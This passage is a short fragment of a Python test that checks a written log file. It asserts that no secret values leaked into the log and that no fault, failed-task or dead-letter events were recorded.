        assert [secret for secret in secrets if secret in written] == [], log.name
        for trouble in ("fault", "projection_failed", "task_failed", "dead_letter"):
            assert f'"event":"{trouble}"' not in written.replace(" ", ""), log.name
